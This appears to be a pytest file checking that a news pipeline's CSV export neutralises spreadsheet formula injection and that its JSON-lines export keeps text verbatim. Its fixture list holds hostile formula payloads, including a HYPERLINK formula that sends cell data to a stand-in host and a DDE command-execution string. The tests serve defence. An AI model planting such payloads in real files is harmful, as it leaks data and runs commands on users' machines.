"""Exports: a CSV cell never runs as a spreadsheet formula; JSON lines keep every text verbatim."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

from pipeline.query.export import write_csv, write_jsonl
from pipeline.query.records import ArticleRecord, Source

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def record(title: str, outlet: str, author: str) -> ArticleRecord:
    when = datetime(2026, 1, 1)
    source = Source("https://example.com/a", when, "original", 1.0, title, "0" * 64, (), outlet, 200, None, None)
    return ArticleRecord("abc", title, "= text starts so", (author,), None, "de", (), outlet, when, (source,))


def test_csv_cells_that_start_like_a_formula_are_written_as_text() -> None:
    records = [record(f, f, "Anne") for f in FORMULAS] + [record("Kim Jong Un", "Hafenblatt", "=cmd")]
    out = io.StringIO()
    assert write_csv(records, out) == len(records)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["title"] for r in rows] == [f"'{f}" for f in FORMULAS] + ["Kim Jong Un"]
    assert [r["outlet"] for r in rows][:2] == [f"'{FORMULAS[0]}", f"'{FORMULAS[1]}"]
    assert rows[0]["text"] == "'= text starts so" and rows[-1]["outlet"] == "Hafenblatt"
    assert json.loads(rows[-1]["authors"]) == ["=cmd"]  # a JSON cell starts with [ : safe, and still JSON
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_json_lines_keep_every_text_verbatim() -> None:
    out = io.StringIO()
    write_jsonl([record(f, f, f) for f in FORMULAS], out)
    assert [json.loads(line)["title"] for line in out.getvalue().splitlines()] == FORMULAS
